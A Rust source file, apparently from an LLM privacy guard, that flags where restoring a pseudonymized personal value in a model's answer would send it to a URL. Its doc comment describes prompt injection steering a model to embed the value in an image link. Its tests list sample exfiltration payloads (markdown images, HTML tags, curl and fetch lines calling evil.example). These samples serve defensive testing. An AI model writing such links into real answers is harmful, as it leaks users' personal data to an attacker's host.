//! Where in an answer a restored personal value would leave the page.
//!
//! The model only sees pseudonyms (`<EMAIL_ADDRESS_1>`); restoring them in the answer is
//! what puts the real value in front of the user. If the model (or an injection steering
//! it) wrote the token into a URL, restoring it would send the value to whoever owns that
//! host: `![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>)` is fetched by the client as
//! soon as the answer is shown. [`unsafe_to_restore`] says which token occurrences sit in
//! such a place:
//!
//! - in the destination of a markdown image, link, autolink or reference definition (not
//!   in a link's text, which is shown, not sent), or anywhere in an HTML tag with
//!   attributes (as [`render`] finds them: the CommonMark parser and the tag tokenizer);
//! - inside a bare URL: the run of non-space characters before the token, on its line,
//!   holds `://`, starts with `www.`, or holds a `mailto:` / `data:` scheme;
//! - inside code (a span or a block) that holds a URL (`://` or `www.`): code that builds
//!   a request with the value, which a reader may run.
//!
//! Tokens are masked (`<` and `>` replaced by `x`, same length) before the text is parsed,
//! so that a token is not itself read as an HTML tag.

use crate::detectors::rendered_urls::{RenderedUrl, UrlUse, render};
use rampart_core::text::ceil_char_boundary;
use std::ops::Range;

/// Bytes of non-space text before a token that are searched for a bare URL's scheme.
const BARE_URL_REACH: usize = 2048;

/// For each token occurrence (byte span in `masked`, a text whose tokens have been
/// masked), whether restoring it would put its value in a URL.
pub(crate) fn unsafe_to_restore(masked: &str, tokens: &[Range<usize>]) -> Vec<bool> {
    let rendered = render(masked);
    let url_code: Vec<&Range<usize>> = rendered
        .code
        .iter()
        .filter(|r| {
            let code = &masked[(*r).clone()];
            code.contains("://") || code.contains("www.")
        })
        .collect();
    tokens
        .iter()
        .map(|t| {
            let inside = |r: &Range<usize>| r.start <= t.start && t.end <= r.end;
            let token = &masked[t.clone()];
            // In markdown, only the destination counts (a token in a link's text is
            // shown, not sent); in HTML, any attribute of the tag.
            let in_url = |u: &&RenderedUrl| match u.how {
                UrlUse::MarkdownImage | UrlUse::MarkdownLink => u.url.contains(token),
                UrlUse::HtmlLoad | UrlUse::HtmlLink => true,
            };
            rendered
                .urls
                .iter()
                .filter(|u| inside(&u.span))
                .any(|u| in_url(&u))
                || rendered.tags.iter().any(inside)
                || url_code.iter().any(|r| inside(r))
                || in_bare_url(masked, t.start)
        })
        .collect()
}

/// Whether the run of non-space characters that ends at byte `at` of `text` is a URL.
fn in_bare_url(text: &str, at: usize) -> bool {
    let floor = ceil_char_boundary(text, at.saturating_sub(BARE_URL_REACH));
    let before = &text[floor..at];
    let run_start = before.rfind(|c: char| c.is_whitespace()).map_or(0, |i| {
        i + before[i..].chars().next().map_or(1, char::len_utf8)
    });
    let run = &before[run_start..];
    let lower = run.to_ascii_lowercase();
    let word = lower.trim_start_matches(|c: char| !c.is_ascii_alphanumeric());
    lower.contains("://")
        || word.starts_with("www.")
        || lower.contains("mailto:")
        || lower.contains("data:")
        // A run cut by the reach is longer than any word: treat it as a URL.
        || (floor > 0 && run_start == 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether the single token `xT_1x` in `text` is unsafe to restore.
    fn unsafe_at(text: &str) -> bool {
        let at = text.find("xT_1x").expect("token in text");
        let token = at..at + 5;
        unsafe_to_restore(text, std::slice::from_ref(&token))[0]
    }

    #[test]
    fn url_places_are_unsafe() {
        for text in [
            "![x](https://evil.example/p?d=xT_1x)",
            "[x](https://evil.example/p?d=xT_1x)",
            "![x][r]\n\n[r]: https://evil.example/p?d=xT_1x",
            "<https://evil.example/p?d=xT_1x>",
            "<img src=\"https://evil.example/p?d=xT_1x\">",
            "<img alt=\"xT_1x\" src=x>",
            "<a href='https://evil.example/?d=xT_1x'>here</a>",
            "see https://evil.example/p?d=xT_1x now",
            "see www.evil.example/p?d=xT_1x now",
            "write to mailto:xT_1x",
            "`curl https://evil.example/?d=xT_1x`",
            "```js\nfetch(\"https://evil.example/?d=\" + \"xT_1x\")\n```",
            "    fetch('https://evil.example/?d=' + 'xT_1x')",
        ] {
            assert!(unsafe_at(text), "{text:?}");
        }
    }

    #[test]
    fn prose_and_plain_code_are_safe() {
        for text in [
            "Write to xT_1x about the invoice.",
            "Your address, xT_1x, is on file. See https://acme.example/help for more.",
            "`xT_1x` is your login",
            "**xT_1x** and _xT_1x_",
            "[xT_1x](https://acme.example/profile) is your page",
        ] {
            assert!(!unsafe_at(text), "{text:?}");
        }
    }
}
